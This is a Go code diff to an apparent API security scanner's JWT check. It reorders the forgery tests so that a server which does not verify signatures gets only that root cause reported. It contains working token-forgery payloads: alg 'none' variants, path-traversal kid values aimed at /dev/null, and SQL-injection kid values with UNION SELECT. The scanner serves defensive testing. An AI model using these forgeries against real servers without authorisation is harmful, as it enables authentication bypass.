@@ -189,20 +189,10 @@ func (s *scanner) checkJWT(ctx context.Context) error {
 		return true, nil
 	}
 
-	// alg none
-	if s.enabled("JWT-ALG-NONE") || s.enabled("JWT-EXPIRED-ACCEPTED") || s.enabled("JWT-NBF-IGNORED") {
-		for _, a := range []string{"none", "None", "NONE", "nOnE"} {
-			h := copyMap(hdr, "alg", a)
-			ok, err := try("JWT-ALG-NONE", fmt.Sprintf("an unsigned token (alg %q, the original claims)", a), seg(h)+"."+parts[1]+".")
-			if err != nil {
-				return err
-			}
-			if ok {
-				forgers = append(forgers, forger{"alg " + a, func(c map[string]any) string { return seg(h) + "." + seg(c) + "." }})
-				break
-			}
-		}
-	}
+	// When signatures are not verified at all, every forgery below
+	// would pass: only that root cause is reported (the claims checks
+	// still run, with the tampered token).
+	unverified := false
 	// tampered payload, original signature; and the signature removed
 	{
 		c := copyMap(claims, "fortapi_scan", randHex(4))
@@ -218,6 +208,21 @@ func (s *scanner) checkJWT(ctx context.Context) error {
 		}
 		if ok {
 			forgers = append(forgers, forger{"a wrong signature", func(c map[string]any) string { return parts[0] + "." + seg(c) + "." + parts[2] }})
+			unverified = true
+		}
+	}
+	// alg none
+	if !unverified {
+		for _, a := range []string{"none", "None", "NONE", "nOnE"} {
+			h := copyMap(hdr, "alg", a)
+			ok, err := try("JWT-ALG-NONE", fmt.Sprintf("an unsigned token (alg %q, the original claims)", a), seg(h)+"."+parts[1]+".")
+			if err != nil {
+				return err
+			}
+			if ok {
+				forgers = append(forgers, forger{"alg " + a, func(c map[string]any) string { return seg(h) + "." + seg(c) + "." }})
+				break
+			}
 		}
 	}
 	// weak HMAC secret, offline
@@ -236,7 +241,7 @@ func (s *scanner) checkJWT(ctx context.Context) error {
 		}
 	}
 	// algorithm confusion: HS256 keyed with each JWKS public key
-	if !strings.HasPrefix(alg, "HS") && alg != "" {
+	if !strings.HasPrefix(alg, "HS") && alg != "" && !unverified {
 		keys, src, err := s.jwks(ctx)
 		if err != nil {
 			return err
@@ -265,17 +270,10 @@ func (s *scanner) checkJWT(ctx context.Context) error {
 		}
 	}
 	// kid injection
-	for _, v := range []struct {
-		kid string
-		key []byte
-	}{
-		{"../../../../../../../../../../dev/null", nil},
-		{"/dev/null", nil},
-		{"../../../../../../../../../../dev/null\x00", nil},
-		{"fortapi-scan' UNION SELECT 'fortapiscankey' -- ", []byte("fortapiscankey")},
-		{"fortapi-scan' UNION SELECT 'fortapiscankey'; --", []byte("fortapiscankey")},
-		{"fortapi-scan\" UNION SELECT \"fortapiscankey\" -- ", []byte("fortapiscankey")},
-	} {
+	for _, v := range kidInjections() {
+		if unverified {
+			break
+		}
 		hsAlg := alg
 		if !strings.HasPrefix(hsAlg, "HS") {
 			hsAlg = "HS256"
@@ -293,7 +291,7 @@ func (s *scanner) checkJWT(ctx context.Context) error {
 		}
 	}
 	// keys in the header: jwk and x5c of the scan's own key
-	{
+	if !unverified {
 		f, err := s.headerKeyForgeries(ctx, pt, hdr, claims)
 		if err != nil {
 			return err
@@ -513,4 +511,21 @@ func parseJWK(k map[string]any) (jwkKey, bool) {
 		secrets = append(secrets, []byte(x))
 	}
 	return jwkKey{kid: kid, form: "PEM, PEM without newline, DER", secrets: secrets}, true
+}
+
+// kidInjection is a kid value and the key it makes a vulnerable server use.
+type kidInjection struct {
+	kid string
+	key []byte
+}
+
+func kidInjections() []kidInjection {
+	return []kidInjection{
+		{"../../../../../../../../../../dev/null", nil},
+		{"/dev/null", nil},
+		{"../../../../../../../../../../dev/null\x00", nil},
+		{"fortapi-scan' UNION SELECT 'fortapiscankey' -- ", []byte("fortapiscankey")},
+		{"fortapi-scan' UNION SELECT 'fortapiscankey'; --", []byte("fortapiscankey")},
+		{"fortapi-scan\" UNION SELECT \"fortapiscankey\" -- ", []byte("fortapiscankey")},
+	}
 }
